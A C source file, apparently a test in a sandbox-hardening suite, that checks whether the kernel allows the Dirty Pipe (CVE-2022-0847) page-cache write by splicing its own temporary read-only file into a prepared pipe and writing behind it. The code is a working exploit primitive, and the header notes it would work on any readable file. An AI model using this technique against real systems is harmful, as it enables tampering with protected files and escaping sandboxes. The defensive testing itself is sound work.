/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Writes to a file that it opened for reading, by a pipe that holds its pages: splice and then
 * write (CVE-2022-0847, "Dirty Pipe"). The file is its own; on a vulnerable kernel any readable
 * one would do, such as those of an image that all sandboxes share.
 */
#include "attack/attack.h"

ATTACK(page_cache)
{
	char path[] = "/tmp/.attack-page-XXXXXX", page[4096], back[4] = "";
	int p[2];
	loff_t offset = 0;
	int fd = mkstemp(path);
	if (fd < 0 || write(fd, "before", 6) != 6 || pipe(p) < 0)
		untried("a file in /tmp: %s", strerror(errno));
	close(fd);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	unlink(path);
	/* Fill and drain, so that every buffer of the pipe may be appended to. */
	memset(page, 0, sizeof(page));
	for (int i = 0; i < 16; i++)
		if (write(p[1], page, sizeof(page)) < 0)
			untried("fill a pipe: %s", strerror(errno));
	for (int i = 0; i < 16; i++)
		if (read(p[0], page, sizeof(page)) < 0)
			untried("drain a pipe: %s", strerror(errno));
	if (splice(fd, &offset, p[1], NULL, 1, 0) != 1)
		held("splice: %s", strerror(errno));
	if (write(p[1], "XXX", 3) != 3 || pread(fd, back, 3, 1) != 3)
		untried("write behind the page: %s", strerror(errno));
	if (memcmp(back, "efo", 3) != 0)
		broken("the file has changed: %.3s", back);
	held("the page is as it was");
}
